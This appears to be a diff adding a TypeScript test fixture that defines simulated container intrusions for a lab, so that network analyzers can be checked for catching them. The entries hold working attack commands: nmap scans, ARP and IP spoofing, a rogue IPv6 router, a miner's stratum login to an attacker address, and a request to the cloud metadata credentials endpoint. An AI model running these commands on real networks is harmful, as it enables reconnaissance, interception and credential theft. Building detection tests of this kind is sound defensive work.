@@ -1,0 +1,225 @@
+/**
+ * Attacks that an intruder in a container would try, with the tools that he would bring, one container each so that
+ * each finding has one right name. Every one is bounded and stays within the lab.
+ */
+import type { Lab } from './lab.ts';
+import { type RunningProcess, waitFor } from './run.ts';
+import { HOST_ADDRESS, INTERNET } from './world.ts';
+
+/** What must be in the image of the intruder, and what of it this machine must have for the other end. */
+export const INTRUDER_TOOLS = ['nmap', 'hping3', 'arpspoof', 'dnsmasq'];
+
+/** What those tools read. */
+export const INTRUDER_FILES = ['/usr/share/nmap/nmap-services', '/usr/share/nmap/nmap-payloads'];
+
+export const FRONT = {
+  name: 'front',
+  subnet: '172.31.10.0/24',
+  gateway: '172.31.10.1',
+  v6: 'fd31:0:0:10::/64',
+};
+export const BACK = { name: 'back', subnet: '172.31.20.0/24' };
+export const OTHER = { name: 'other', subnet: '172.31.30.0/24' };
+
+/** Addresses of the containers that are attacked. */
+export interface Targets {
+  readonly web: string;
+  readonly api: string;
+  readonly ledger: string;
+  readonly database: string;
+}
+
+export interface Intrusion {
+  readonly id: string;
+  readonly title: string;
+  /** At least one of these analyzers must name the intruder. */
+  readonly found: readonly string[];
+  /** Who is named; `wan` acts from outside and is named by its address. Default: a container of its own. */
+  readonly from?: 'container' | 'wan' | 'host';
+  readonly labels?: Readonly<Record<string, string>>;
+  /** What stands at the other end. */
+  prepare?(lab: Lab): Promise<RunningProcess>;
+  /** The command in the intruder's container, the wan or the host. */
+  command(targets: Targets): readonly string[];
+}
+
+const ATTACKER = INTERNET.attacker.v4;
+const STRATUM_PORT = '3333';
+const sh = (script: string): readonly string[] => ['sh', '-c', script];
+
+export const INTRUSIONS: readonly Intrusion[] = [
+  {
+    id: 'syn-scan',
+    title: 'nmap -sS of 200 ports of a neighbour',
+    found: ['port-scan'],
+    command: ({ web }) => nmap('-sS', '-p', '1-200', '--max-retries', '0', web),
+  },
+  {
+    id: 'connect-scan',
+    title: 'nmap -sT of 200 ports of a neighbour',
+    found: ['port-scan'],
+    command: ({ web }) => nmap('-sT', '-p', '1-200', '--max-retries', '0', web),
+  },
+  {
+    id: 'xmas-scan',
+    title: 'nmap -sX of 50 ports of a neighbour',
+    found: ['port-scan'],
+    command: ({ web }) => nmap('-sX', '-p', '1-50', '--max-retries', '0', web),
+  },
+  {
+    id: 'udp-scan',
+    title: 'nmap -sU of 40 ports of a neighbour',
+    found: ['port-scan'],
+    command: ({ web }) => nmap('-sU', '-p', '1000-1039', '--max-retries', '0', '--min-rate', '20', web),
+  },
+  {
+    id: 'slow-scan',
+    title: 'nmap -sS, one port each 400 ms',
+    found: ['port-scan'],
+    command: ({ web }) => nmap('-sS', '-p', '20-45', '--scan-delay', '400ms', '--max-retries', '0', web),
+  },
+  {
+    id: 'arp-sweep',
+    title: 'nmap -sn of the own network: ARP',
+    found: ['host-sweep'],
+    command: () => nmap('-sn', '172.31.10.128/26'),
+  },
+  {
+    id: 'host-sweep',
+    title: 'nmap of port 22 on every address of another network',
+    found: ['host-sweep', 'isolation-bypass'],
+    command: () => nmap('-sS', '-p', '22', '--max-retries', '0', '--min-rate', '20', '172.31.30.0/26'),
+  },
+  {
+    id: 'arp-spoof',
+    title: "arpspoof: the gateway's address is mine",
+    found: ['arp-spoof'],
+    command: ({ web }) => ['timeout', '6', 'arpspoof', '-i', 'eth0', '-t', web, FRONT.gateway],
+  },
+  {
+    id: 'ip-spoof',
+    title: "hping3 -a: packets in a neighbour's name",
+    found: ['ip-spoof'],
+    command: ({ web, api }) => [
+      'hping3',
+      '-q',
+      '-c',
+      '40',
+      '-i',
+      'u200000',
+      '-S',
+      '-p',
+      '80',
+      '-a',
+      api,
+      web,
+    ],
+  },
+  {
+    id: 'router-advertisement',
+    title: 'dnsmasq --enable-ra: I am the router',
+    found: ['rogue-gateway'],
+    command: () =>
+      rogue('--enable-ra', '--dhcp-range=::,constructor:eth0,ra-only,64', '--ra-param=eth0,4,300'),
+  },
+  {
+    id: 'miner',
+    title: 'a miner logs in at its pool (stratum)',
+    found: ['mining'],
+    prepare: (lab) => {
+      const answer = '{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"x","job":{"job_id":"1"}}}';
+      const pool = `read login; echo '${answer}'; sleep 2`;
+      return listening(
+        lab,
+        ['busybox', 'nc', '-ll', '-p', STRATUM_PORT, '-e', 'busybox', 'sh', '-c', pool],
+        `:${STRATUM_PORT}`,
+      );
+    },
+    command: () => {
+      const login =
+        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}';
+      return sh(`(echo '${login}'; sleep 2) | timeout 4 nc ${ATTACKER} ${STRATUM_PORT}`);
+    },
+  },
+  {
+    id: 'metadata',
+    title: "asks for the cloud's credentials at 169.254.169.254",
+    found: ['metadata-access'],
+    command: () =>
+      sh('timeout 5 wget -q -O- http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
+  },
+  {
+    id: 'docker-api',
+    title: "asks the host's Docker API on port 2375",
+    found: ['docker-api-access'],
+    prepare: (lab) =>
+      listening(
+        lab,
+        ['busybox', 'nc', '-ll', '-p', '2375', '-e', 'busybox', 'echo', 'HTTP/1.1 200 OK'],
+        ':2375',
+        'host',
+      ),
+    command: () => sh(`timeout 5 wget -q -O- http://${FRONT.gateway}:2375/version`),
+  },
+  {
+    id: 'database-of-others',
+    title: "connects to the database of another project's",
+    found: ['admin-port-access'],
+    labels: { 'com.docker.compose.project': 'shop', 'com.docker.compose.service': 'intruder' },
+    command: ({ ledger }) => sh(`(echo; sleep 1) | timeout 4 nc ${ledger} 5432`),
+  },
+  {
+    id: 'basic-credentials',
+    title: 'sends a password over HTTP to the internet',
+    found: ['cleartext-credentials'],
+    command: () =>
+      sh(
+        `printf 'GET / HTTP/1.1\\r\\nHost: www.example.test\\r\\nAuthorization: Basic aW50cnVkZXI6Y29ycmVjdA==\\r\\nConnection: close\\r\\n\\r\\n' | timeout 4 nc ${INTERNET.web.v4} 80`,
+      ),
+  },
+  {
+    id: 'direct-routing',
+    // Engines before 28 let this through for ports that are published, whatever address they are published on.
+    title: 'from outside straight to the address of a container, past its published port',
+    found: ['isolation-bypass', 'published-exposure'],
+    from: 'wan',
+    command: ({ web }) =>
+      sh(
+        `ip route replace ${FRONT.subnet} via ${HOST_ADDRESS}; timeout 5 busybox wget -q -O- http://${web}/; ip route del ${FRONT.subnet}`,
+      ),
+  },
+  {
+    id: 'host-into-internal',
+    title: 'the host opens a connection into an internal network',
+    found: ['internal-ingress'],
+    from: 'host',
+    command: ({ database }) => sh(`(echo; sleep 1) | timeout 4 busybox nc ${database} 5432`),
+  },
+];
+
+function nmap(...words: readonly string[]): readonly string[] {
+  return ['timeout', '20', 'nmap', '-n', '-Pn', ...words].filter(
+    (word) => !(word === '-Pn' && words.includes('-sn')),
+  );
+}
+
+function rogue(...words: readonly string[]): readonly string[] {
+  const quiet = ['--keep-in-foreground', '--conf-file=/dev/null', '--port=0', '--user=root', '--pid-file='];
+  return ['timeout', '8', 'dnsmasq', ...quiet, '--dhcp-leasefile=/tmp/leases', ...words];
+}
+
+/** Runs in the wan, or on the host, until the lab's caller stops it; waits until its socket is there. */
+async function listening(
+  lab: Lab,
+  argv: readonly string[],
+  socket: string,
+  place: 'wan' | 'host' = 'wan',
+): Promise<RunningProcess> {
+  const server = lab.spawn(place, argv);
+  await waitFor(`${argv.join(' ')} to listen`, async () => {
+    if (!server.running()) throw new Error(server.output());
+    const sockets = await lab.exec(place, ['ss', '--all', '--numeric', '--processes', '--tcp', '--udp']);
+    return sockets.stdout.includes(socket);
+  });
+  return server;
+}
